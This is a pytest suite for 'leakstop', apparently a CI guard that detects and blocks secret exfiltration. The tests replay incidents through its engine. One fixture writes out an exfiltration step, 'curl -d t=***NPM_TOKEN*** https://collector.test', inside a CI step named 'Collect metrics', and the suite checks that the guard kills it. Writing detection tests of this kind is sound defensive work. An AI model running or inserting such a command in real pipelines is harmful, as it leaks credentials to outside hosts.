# SPDX-License-Identifier: MIT
"""The engine as a whole: incidents retold, and what a report says of them."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from leakstop.engine.core import Engine
from leakstop.errors import ExitCode
from leakstop.model.codec import from_json, to_json
from leakstop.model.finding import Severity
from leakstop.model.flow import Transport
from leakstop.model.process import ProcessView
from leakstop.model.report import Job, Report
from leakstop.model.verdict import Action, Carriage, Mode, Reason, Verdict
from leakstop.policy.rules import Policy
from story import (
    DIGEST,
    FORBIDDEN,
    LEAKING,
    LEAKING_NAMED,
    MS,
    NAMED,
    PASSED,
    REFUSED,
    WALL_S,
    Ends,
    Finds,
    FindsOnly,
    Kills,
    Lists,
    Notes,
    Story,
    allow,
    answers,
    asks,
    carrying,
    connects,
    deny,
    execs,
    exits,
    finished,
    fork,
    guarded,
    home,
    journaled,
    loses,
    running,
    secret,
    spawns,
    started,
    step,
    story,
)

WORKER, BASH, CURL = 100, 110, 120
COLLECTOR = "203.0.113.9"
NPM = carrying("NPM_TOKEN")


def collect_metrics(mode: Mode) -> Story:
    """A job whose step "Collect metrics" was written by somebody else."""
    return guarded(
        allow("registry.test"),
        mode=mode,
        homes={"NPM_TOKEN": home(allow("registry.test"))},
        secrets=[secret("NPM_TOKEN", home=("registry.test",), revoke="https://registry.test/t")],
        worker=WORKER,
    ).sees(
        running(WORKER, 1, "/runner/bin/Runner.Worker"),
        spawns(BASH, WORKER, "bash"),
        step(BASH, "Collect metrics"),
        spawns(CURL, BASH, "curl", "curl", "-d", "t=***NPM_TOKEN***", "https://collector.test"),
    )


@pytest.mark.parametrize("mode", Mode)
def test_ghostaction_2025_https_dies_at_its_question(mode: Mode) -> None:
    (
        collect_metrics(mode)
        .sees(asks(CURL, "collector.test", LEAKING, hits=NPM))
        .expects(
            Kills(CURL),
            FindsOnly("secret-in-argv"),
            Finds(
                "secret-in-argv",
                severity=Severity.CRITICAL,
                destination="collector.test",
                secret="NPM_TOKEN",
                encoding="raw",
                step="Collect metrics",
                bytes_left=0,
                failing=True,
                action_taken="Killed before its first byte: 0 bytes of NPM_TOKEN left.",
            ),
            Lists("collector.test", protocol=Transport.DNS, applied=Action.DENY, secrets=()),
            Ends(ExitCode.FINDINGS),
        )
    )


@pytest.mark.parametrize("mode", Mode)
def test_ghostaction_2026_raw_address_over_plain_http(mode: Mode) -> None:
    told = collect_metrics(mode).sees(connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM))
    told.expects(
        Kills(CURL),
        Finds("secret-in-argv", destination=f"{COLLECTOR}:80", bytes_left=0, count=1),
        Lists(f"{COLLECTOR}:80", host="", ip=COLLECTOR, step="Collect metrics", rule=None),
        Ends(ExitCode.FINDINGS),
    )
    process = told.report.findings[0].process
    assert process.ancestry == ("/usr/bin/bash",)
    assert "t=***NPM_TOKEN***" in process.argv


def test_an_allowed_host_is_no_free_drop() -> None:
    (
        collect_metrics(Mode.BLOCK)
        .sees(
            asks(CURL, "registry.test"),
            answers("registry.test", "198.51.100.1"),
            connects(CURL, "198.51.100.1", 443, LEAKING_NAMED, hits=carrying("DEPLOY_TOKEN")),
        )
        .expects(
            Kills(CURL),
            Finds("secret-in-argv", secret="DEPLOY_TOKEN", destination="registry.test:443"),
            Lists("registry.test:443", policy_verdict=Action.ALLOW, applied=Action.DENY),
        )
    )


def test_a_token_on_the_way_home_is_nothing_to_report() -> None:
    (
        collect_metrics(Mode.BLOCK)
        .sees(
            asks(CURL, "registry.test", hits=NPM),
            answers("registry.test", "198.51.100.1"),
            connects(CURL, "198.51.100.1", hits=NPM),
        )
        .expects(
            Kills(),
            FindsOnly(),
            Lists("registry.test:443", applied=Action.ALLOW, secrets=("NPM_TOKEN",), count=1),
            Ends(ExitCode.CLEAN),
        )
    )


def test_question_and_connect_of_one_killed_process_are_one_finding() -> None:
    (
        collect_metrics(Mode.AUDIT)
        .sees(
            asks(CURL, "collector.test", LEAKING, hits=NPM),
            asks(CURL, "collector.test", LEAKING, hits=NPM, qtype="AAAA"),
            connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM, killed=True),
        )
        .expects(Finds("secret-in-argv", destination="collector.test", count=1))
    )


def test_a_loop_that_tries_again_is_one_finding_counted() -> None:
    told = collect_metrics(Mode.AUDIT)
    for pid in range(200, 203):
        told.sees(spawns(pid, BASH, "curl"), asks(pid, "collector.test", LEAKING, hits=NPM))
    told.expects(Finds("secret-in-argv", count=3), Lists("collector.test", count=3))


def test_unnamed_hosts_pass_in_audit_and_are_listed() -> None:
    (
        guarded(allow("registry.test"))
        .sees(
            spawns(CURL, 1, "curl"),
            asks(CURL, "cdn.test", PASSED),
            answers("cdn.test", "198.51.100.7"),
            connects(CURL, "198.51.100.7", 443, PASSED),
            connects(CURL, "198.51.100.7", 443, PASSED),
        )
        .expects(
            FindsOnly(),
            Lists("cdn.test:443", count=2, policy_verdict=Action.DENY, applied=Action.ALLOW),
            Ends(ExitCode.CLEAN),
        )
    )


def test_unnamed_hosts_are_denied_in_block() -> None:
    told = guarded(allow("registry.test"), mode=Mode.BLOCK, sources=(".github/leakstop.yml",)).sees(
        spawns(CURL, 1, "curl"),
        asks(CURL, "cdn.test", REFUSED),
        asks(CURL, "cdn.test", REFUSED, qtype="AAAA"),
        connects(CURL, "198.51.100.7", 443, REFUSED),
    )
    told.expects(
        Kills(),
        FindsOnly("denied-flow", "denied-flow"),
        Finds("denied-flow", destination="cdn.test", count=1, rule="", failing=True),
        Finds("denied-flow", destination="198.51.100.7:443"),
        Lists("cdn.test", count=1, ip="", port=0),
        Ends(ExitCode.DENIED),
    )


def test_a_deny_rule_is_a_finding_in_audit_too() -> None:
    (
        guarded(deny("tracker.test"))
        .sees(asks(CURL, "tracker.test", FORBIDDEN))
        .expects(
            Finds("denied-flow", rule="tracker.test (.github/leakstop.yml:5)"),
            Ends(ExitCode.FINDINGS),
        )
    )


def test_a_quiet_denial_is_counted_and_never_red() -> None:
    (
        guarded(deny("tracker.test", quiet=True), mode=Mode.BLOCK)
        .sees(asks(CURL, "tracker.test", FORBIDDEN))
        .expects(
            Finds("denied-flow", severity=Severity.INFO, failing=False),
            Lists("tracker.test", quiet=True),
            Ends(ExitCode.CLEAN),
        )
    )


def test_fail_on_critical_lets_a_denial_in_audit_pass() -> None:
    (
        guarded(deny("tracker.test"), fail_on=Severity.CRITICAL)
        .sees(asks(CURL, "tracker.test", FORBIDDEN))
        .expects(Finds("denied-flow"), Ends(ExitCode.CLEAN))
    )


def test_the_process_that_asked_says_which_name_is_shown() -> None:
    (
        guarded()
        .sees(
            spawns(10, 1, "pip"),
            spawns(11, 1, "curl"),
            asks(10, "a.test", PASSED),
            asks(11, "b.test", PASSED),
            answers("a.test", "198.51.100.7"),
            answers("b.test", "198.51.100.7"),
            connects(10, "198.51.100.7", 443, PASSED),
            connects(11, "198.51.100.7", 443, PASSED),
            connects(12, "198.51.100.7", 443, PASSED),
        )
        .expects(
            Lists("a.test:443", count=1),
            Lists("b.test:443", count=1, process=ProcessView(11, "/usr/bin/curl", ("curl",))),
            Lists("b.test:443", count=1, process=ProcessView(12, "")),
        )
    )


def test_a_name_that_was_only_asked_for_is_listed_in_audit() -> None:
    (
        guarded(allow("registry.test"))
        .sees(asks(CURL, "cdn.test", PASSED), asks(CURL, "registry.test"))
        .expects(Lists("cdn.test", port=0, protocol=Transport.DNS))
    )


def test_a_late_name_of_a_step_reaches_what_was_seen_before() -> None:
    (
        guarded(mode=Mode.BLOCK, worker=WORKER)
        .sees(
            spawns(BASH, WORKER, "bash"),
            spawns(CURL, BASH, "curl"),
            connects(CURL, COLLECTOR, 443, REFUSED),
            step(BASH, "Test"),
            connects(CURL, COLLECTOR, 443, REFUSED),
        )
        .expects(
            Finds("denied-flow", step="Test", count=2),
            Lists(f"{COLLECTOR}:443", step="Test", count=2),
        )
    )


def test_two_processes_of_one_step_are_one_cause() -> None:
    (
        guarded(mode=Mode.BLOCK, worker=WORKER)
        .sees(
            spawns(BASH, WORKER, "curl"),
            step(BASH, "Test"),
            spawns(CURL, WORKER, "curl"),
            step(CURL, "Test"),
            connects(BASH, COLLECTOR, 443, REFUSED),
            connects(CURL, COLLECTOR, 443, REFUSED),
        )
        .expects(
            Finds("denied-flow", step="Test", count=2),
            Lists(f"{COLLECTOR}:443", step="Test", count=2),
        )
    )


def test_the_same_host_from_two_steps_is_two_records() -> None:
    (
        guarded(worker=WORKER)
        .sees(
            spawns(BASH, WORKER, "curl"),
            step(BASH, "Build"),
            spawns(CURL, WORKER, "curl"),
            step(CURL, "Test"),
            connects(BASH, COLLECTOR, 443, PASSED),
            connects(CURL, COLLECTOR, 443, PASSED),
        )
        .expects(
            Lists(f"{COLLECTOR}:443", step="Build", count=1),
            Lists(f"{COLLECTOR}:443", step="Test", count=1),
        )
    )


def test_a_process_that_nobody_saw_is_shown_by_its_number() -> None:
    told = guarded().sees(connects(4242, COLLECTOR, 443, PASSED))
    view = told.report.flows[0].process
    assert (view.pid, view.exe, view.command) == (4242, "", "pid 4242")


def test_findings_are_ordered_most_severe_first_then_by_time() -> None:
    (
        collect_metrics(Mode.BLOCK)
        .sees(
            connects(BASH, "198.51.100.7", 443, REFUSED),
            connects(BASH, "198.51.100.8", 443, REFUSED),
            connects(BASH, "198.51.100.9", 443, NAMED, hits=NPM, carriage=Carriage.NOTE),
            connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM),
        )
        .expects(FindsOnly("secret-in-argv", "denied-flow", "denied-flow", "secret-unplaced"))
    )


def test_flows_are_in_order_of_first_sight() -> None:
    told = guarded().sees(
        connects(CURL, "198.51.100.2", 443, PASSED),
        connects(CURL, "198.51.100.1", 443, PASSED),
        connects(CURL, "198.51.100.2", 443, PASSED),
    )
    assert [flow.ip for flow in told.report.flows] == ["198.51.100.2", "198.51.100.1"]


def test_an_agent_that_died_makes_every_job_red() -> None:
    told = guarded()
    assert told.engine.report(final=False).exit_code is ExitCode.CLEAN
    died = told.engine.report()
    assert died.exit_code is ExitCode.COVERAGE
    assert died.coverage.agent_died
    assert not died.coverage.complete
    assert [finding.id for finding in died.findings] == ["coverage-lost"]
    told.sees(finished())
    alive = told.engine.report()
    assert alive.exit_code is ExitCode.CLEAN
    assert alive.coverage.complete


def test_a_leak_outweighs_the_death_of_the_agent() -> None:
    told = collect_metrics(Mode.AUDIT).sees(connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM))
    assert told.engine.report().exit_code is ExitCode.FINDINGS


def test_a_journal_without_beginning_proves_nothing() -> None:
    report = Engine(Policy(), ()).report()
    assert report.exit_code is ExitCode.COVERAGE
    assert any("no beginning" in note for note in report.coverage.notes)


@pytest.mark.parametrize(
    ("mode", "code", "findings"),
    [
        (Mode.AUDIT, ExitCode.CLEAN, ()),
        (Mode.BLOCK, ExitCode.COVERAGE, ("coverage-lost",)),
    ],
)
def test_lost_events(mode: Mode, code: ExitCode, findings: tuple[str, ...]) -> None:
    told = guarded(mode=mode).sees(loses(2), loses(3), finished())
    told.expects(FindsOnly(*findings), Notes("5 events lost"), Ends(code))
    assert told.report.coverage.lost_events == 5
    assert not told.report.coverage.complete


def test_the_guard_says_which_mode_was_in_force() -> None:
    engine = Engine(Policy(mode=Mode.BLOCK, digest=DIGEST), ())
    story(engine).sees(started(Mode.AUDIT), loses(1)).expects(FindsOnly(), Ends(ExitCode.CLEAN))
    assert engine.mode is Mode.AUDIT


def test_a_policy_that_was_not_in_force_is_said() -> None:
    engine = Engine(Policy(digest="sha256:" + "1" * 64), ())
    (
        story(engine)
        .sees(started(), connects(CURL, COLLECTOR, 443, NAMED))
        .expects(Notes("another policy was in force"), Lists(f"{COLLECTOR}:443", rule=None))
    )
    assert not any("disagree" in note for note in engine.report().coverage.notes)


def test_a_kernel_that_disagrees_with_the_reference_is_our_fault_and_said_once() -> None:
    told = guarded(allow("registry.test")).sees(
        connects(CURL, "198.51.100.7", 443, NAMED),
        connects(CURL, "198.51.100.8", 443, NAMED),
    )
    told.expects(Notes("disagree on 198.51.100.7 tcp 443 (kernel: allow, reference: deny)"))
    notes = [note for note in told.report.coverage.notes if "disagree" in note]
    assert len(notes) == 1
    told.expects(Lists("198.51.100.7:443", policy_verdict=Action.ALLOW, rule=None))


def test_a_masked_name_is_not_the_one_that_the_kernel_saw() -> None:
    told = guarded(allow("registry.test")).sees(
        asks(CURL, "***npm_token***.test", LEAKING_NAMED, hits=NPM, in_name=True)
    )
    assert told.report.coverage.notes == ()


def test_names_that_the_kernel_may_have_forgotten_are_no_disagreement() -> None:
    told = guarded(allow("registry.test")).sees(
        answers("registry.test", "198.51.100.1", ttl_s=1),
        replace(connects(CURL, "198.51.100.1", 443, PASSED), ts_ns=3_000 * MS),
    )
    assert told.report.coverage.notes == ()


@pytest.mark.parametrize("reason", [Reason.LOCAL, Reason.RESOLVER, Reason.UNPARSABLE])
def test_verdicts_of_the_sensor_alone_are_not_compared(reason: Reason) -> None:
    told = guarded().sees(
        connects(CURL, "192.0.2.53", 53, Verdict(Action.ALLOW, Action.ALLOW, reason))
    )
    assert told.report.coverage.notes == ()


def test_the_rule_that_decided_is_named() -> None:
    told = guarded(allow("registry.test")).sees(
        answers("registry.test", "198.51.100.1"), connects(CURL, "198.51.100.1")
    )
    rule = told.report.flows[0].rule
    assert rule is not None
    assert (rule.text, rule.place()) == ("registry.test", ".github/leakstop.yml:5")


def test_places_where_anyone_can_store_data_are_marked() -> None:
    (
        guarded(sinks=(allow("paste.test"),))
        .sees(answers("paste.test", "198.51.100.4"), connects(CURL, "198.51.100.4", 443, PASSED))
        .expects(Lists("paste.test:443", sink=True))
    )


def test_arguments_that_could_not_be_read_are_said() -> None:
    guarded().sees(execs(CURL, "curl", unscanned=True)).expects(
        Notes("arguments of 1 program could not be read")
    )


def test_a_report_may_be_asked_at_any_time_and_changes_nothing() -> None:
    told = collect_metrics(Mode.BLOCK).sees(connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM))
    assert told.report == told.report


def test_the_journal_gives_the_same_report_as_the_events() -> None:
    told = collect_metrics(Mode.BLOCK).sees(
        asks(CURL, "collector.test", LEAKING, hits=NPM),
        answers("registry.test", "198.51.100.1", "2001:db8::1"),
        connects(BASH, "2001:db8::1"),
        connects(BASH, "198.51.100.7", 443, REFUSED),
        exits(CURL, 9),
        loses(1),
        finished(),
    )
    again = collect_metrics(Mode.BLOCK).engine.report().policy
    fresh = Engine(
        Policy(
            mode=Mode.BLOCK,
            rules=(allow("registry.test"),),
            homes={"NPM_TOKEN": home(allow("registry.test"))},
            digest=DIGEST,
        ),
        [secret("NPM_TOKEN", home=("registry.test",), revoke="https://registry.test/t")],
    )
    for event in journaled(told.events):
        fresh.feed(event)
    report = fresh.report()
    assert report == told.engine.report()
    assert report.policy == again
    assert from_json(Report, json.loads(json.dumps(to_json(report)))) == report


def test_times_are_told_by_the_wall_clock_of_the_start() -> None:
    report = guarded().sees(connects(CURL, COLLECTOR, 443, PASSED)).report
    assert report.started_s == WALL_S
    assert report.wall_s(report.flows[0].first_ns) - WALL_S == pytest.approx(0.001, rel=1e-3)
    assert report.finished_s - WALL_S == pytest.approx(0.001, rel=1e-3)


def test_the_job_and_the_secrets_are_handed_through() -> None:
    views = (secret("NPM_TOKEN"),)
    report = Engine(Policy(), views, job=Job(name="build"), version="9").report()
    assert (report.job.name, report.secrets, report.version) == ("build", views, "9")
    assert report.policy.canonical["mode"] == "audit"


def test_ten_thousand_events_take_no_noticeable_time() -> None:
    # No clock in a test: the suite's time limit catches what is not linear.
    told = guarded(*(allow(f"host{number}.test") for number in range(1000)))
    for number in range(2500):
        pid = 1000 + number
        address = f"198.51.100.{number % 250}"
        told.sees(
            spawns(pid, 1, "curl"),
            answers(f"host{number % 1000}.test", address),
            connects(pid, address),
        )
    assert sum(flow.count for flow in told.report.flows) == 2500


def test_a_fork_of_an_unknown_parent_is_no_obstacle() -> None:
    told = guarded().sees(fork(9, 8), connects(9, COLLECTOR, 443, PASSED))
    assert told.report.flows[0].process.pid == 9


def test_a_disagreement_takes_no_rule_and_no_silence_from_the_reference() -> None:
    (
        guarded(deny("198.51.100.7", quiet=True), mode=Mode.BLOCK)
        .sees(connects(CURL, "198.51.100.7", 443, NAMED))
        .expects(Notes("disagree"), Lists("198.51.100.7:443", rule=None, quiet=False))
    )


def test_after_a_loss_a_disagreement_proves_nothing() -> None:
    # The answer that taught the name may be among what was lost.
    told = guarded(allow("registry.test")).sees(loses(1), connects(CURL, "198.51.100.7"))
    assert not any("disagree" in note for note in told.report.coverage.notes)


def test_a_question_that_was_stopped_is_listed_though_its_name_is_allowed() -> None:
    (
        collect_metrics(Mode.AUDIT)
        .sees(asks(CURL, "registry.test", LEAKING_NAMED, hits=carrying("KEY")))
        .expects(Lists("registry.test", policy_verdict=Action.ALLOW, applied=Action.DENY))
    )


def test_flows_have_short_command_lines_and_findings_whole_ones() -> None:
    body = "x" * 100_000
    told = collect_metrics(Mode.AUDIT).sees(
        execs(CURL, "curl", "curl", "-d", body),
        connects(CURL, COLLECTOR, 80, LEAKING, hits=NPM),
    )
    assert told.report.findings[0].process.argv == ("curl", "-d", body)
    (flow,) = told.report.flows
    assert flow.process.truncated
    assert sum(map(len, flow.process.argv)) == 1024


def test_what_a_pid_asked_is_not_what_its_next_owner_asked() -> None:
    (
        guarded()
        .sees(
            asks(CURL, "a.test", PASSED),
            answers("a.test", COLLECTOR),
            answers("b.test", COLLECTOR),
            exits(CURL),
            fork(CURL, BASH),
            connects(CURL, COLLECTOR, 443, PASSED),
        )
        .expects(Lists("b.test:443"))
    )


def test_events_out_of_order_do_not_turn_back_time() -> None:
    report = (
        guarded()
        .sees(
            replace(connects(CURL, "198.51.100.2", 443, PASSED), ts_ns=50 * MS),
            replace(connects(CURL, "198.51.100.1", 443, PASSED), ts_ns=40 * MS),
            replace(connects(CURL, "198.51.100.2", 443, PASSED), ts_ns=30 * MS),
            replace(connects(CURL, "198.51.100.3", 443, PASSED), ts_ns=20 * MS),
        )
        .report
    )
    assert [(flow.ip, flow.first_ns) for flow in report.flows] == [
        ("198.51.100.3", 20 * MS),
        ("198.51.100.2", 30 * MS),
        ("198.51.100.1", 40 * MS),
    ]
    assert report.finished_s - report.started_s == pytest.approx(0.049, rel=1e-4)
